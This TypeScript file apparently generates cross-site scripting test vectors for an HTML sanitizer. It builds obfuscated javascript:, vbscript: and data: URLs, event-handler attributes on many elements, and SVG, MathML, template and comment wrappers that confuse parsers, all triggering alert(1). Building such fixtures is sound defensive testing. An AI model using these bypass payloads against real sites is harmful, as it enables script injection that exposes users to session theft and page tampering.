/** Returns HTML that would call `alert` in a page that let it, of the classes in public collections of such vectors. */
export function htmlVectors(): string[] {
  return [...eventHandlers(), ...urls().flatMap(inElements), ...shapes()]
}

/** URLs that would run a script, or show a document of the sender's own. */
export function urls(): string[] {
  const schemes = ['javascript', 'vbscript', 'data', 'blob', 'file']
  return schemes.flatMap(scheme => {
    const rest = scheme === 'data' ? 'text/html,<script>alert(1)</script>' : 'alert(1)'
    return spellings(scheme).map(spelled => spelled + rest)
  })
}

/** `javascript:` in forms that browsers read, or once did. */
function spellings(scheme: string) {
  const middle = Math.floor(scheme.length / 2)
  const [start, end] = [scheme.slice(0, middle), scheme.slice(middle)]
  const controls = ['\t', '\n', '\r', '\0', '\u0001', '\u00ad', '\u200b', '\ufeff', '\u2028']
  const entities = ['&Tab;', '&NewLine;', '&#9;', '&#x0A;', '&#0000013']
  return [
    `${scheme}:`,
    `${scheme.toUpperCase()}:`,
    `${start}${end.toUpperCase()}:`,
    `${scheme} :`,
    `${scheme}&colon;`,
    `${scheme}%3A`,
    `//${scheme}:`,
    `/\\${scheme}:`,
    ` ${scheme}:`,
    `"${scheme}:`,
    `https://a@${scheme}:`,
    ...controls.flatMap(mark => [
      `${mark}${scheme}:`,
      `${start}${mark}${end}:`,
      `${scheme}${mark}:`,
    ]),
    ...entities.flatMap(mark => [`${mark}${scheme}:`, `${start}${mark}${end}:`]),
    `${[...scheme].map(letter => `&#${letter.charCodeAt(0)};`).join('')}:`,
    `${[...scheme].map(letter => `&#x${letter.charCodeAt(0).toString(16)}`).join(';')};:`,
  ]
}

function inElements(url: string) {
  return [
    `<a href="${url}">a</a>`,
    `<a href='${url}'>a</a>`,
    `<a href=${url}>a</a>`,
    `<img src="${url}">`,
    `<iframe src="${url}"></iframe>`,
    `<form action="${url}"><button>a</button></form>`,
    `<svg><a xlink:href="${url}"><text y="9">a</text></a></svg>`,
    `<math href="${url}">a</math>`,
    `<img srcset="${url} 1x">`,
    `<p style="background:url(${url})">a</p>`,
  ]
}

function eventHandlers() {
  const elements = [
    'img src=x',
    'svg',
    'body',
    'video src=x',
    'audio src=x',
    'details open',
    'input autofocus',
    'p',
    'a href=/',
    'marquee',
    'math',
    'table',
    'td',
    'div data-object=picture',
  ]
  const events = [
    'error',
    'load',
    'click',
    'focus',
    'mouseover',
    'toggle',
    'animationstart',
    'beforeinput',
    'pointerenter',
    'scrollend',
    'begin',
    'start',
  ]
  const spelled = (event: string) => [
    ` on${event}=alert(1)`,
    ` ON${event}="alert(1)"`,
    `/on${event}='alert(1)'/`,
    `\fon${event}\n=\talert&lpar;1)`,
    ` x="a>"on${event}=alert\`1\` `,
    ` on${event}=&#97;lert(1)`,
  ]
  return elements.flatMap(element =>
    events.flatMap(event => spelled(event).map(handler => `<${element}${handler}>a`)),
  )
}

/** Scripts, frames, styles, templates, and texts that parsers change into something else. */
function shapes() {
  const script = '<script>alert(1)</script>'
  const image = '<img src=x onerror=alert(1)>'
  const around = [
    ['', ''],
    ['<svg>', '</svg>'],
    ['<svg><desc>', '</desc></svg>'],
    ['<svg><foreignObject>', '</foreignObject></svg>'],
    ['<svg><style>', '</style></svg>'],
    ['<svg><title>', '</title></svg>'],
    ['<math><mtext>', '</mtext></math>'],
    ['<math><mtext><table><mglyph><style>', '</style></mglyph></table></mtext></math>'],
    ['<math><annotation-xml encoding="text/html">', '</annotation-xml></math>'],
    ['<template>', '</template>'],
    ['<noscript><p title="</noscript>', '"></noscript>'],
    ['<form><math><mtext></form><form><mglyph><style></math>', ''],
    ['<select><template>', '</template></select>'],
    ['<!--><!-->', '-->'],
    ['<!--[if gte mso 9]><xml>', '</xml><![endif]-->'],
    ['<![CDATA[', ']]>'],
    ['<xmp>', '</xmp>'],
    ['<textarea></textarea>', '</textarea>'],
    ['</title>', ''],
    ['"><', '>'],
    ["';", '//'],
    ['<table><td>', '</td></table>'],
    ['<ul><li style="mso-list:l0 level1">', '</li></ul>'],
    [
      '<div data-object="button" data-attributes=\'{"href":"javascript:alert(1)","text":"',
      '"}\'></div>',
    ],
    ['<b id="docs-internal-guid-1" style="font-weight:normal">', '</b>'],
    ['&lt;', '&gt;'],
  ] as const
  const inner = [
    script,
    image,
    '<ScRiPt/src=data:,alert(1)></sCrIpT>',
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<link rel=stylesheet href="javascript:alert(1)">',
    '<style>@import"javascript:alert(1)";*{x:expression(alert(1))}</style>',
    '<p style="width:expression(alert(1));-moz-binding:url(data:,a)">a</p>',
    '<animate attributeName=href values=javascript:alert(1) />',
    '<set attributeName=onmouseover to=alert(1)>',
    '<use href="data:image/svg+xml,<svg id=a onload=alert(1)></svg>#a">',
    '<button form=a formaction=javascript:alert(1)>a</button>',
    '<x-a onfocus=alert(1) tabindex=1 autofocus>a</x-a>',
    '<dialog open onclose=alert(1)><form method=dialog><button>a</button></form></dialog>',
    '<a href="https://a.example" ping="https://b.example" target=_blank>a</a>',
  ]
  return around.flatMap(([before, behind]) => inner.map(html => before + html + behind))
}
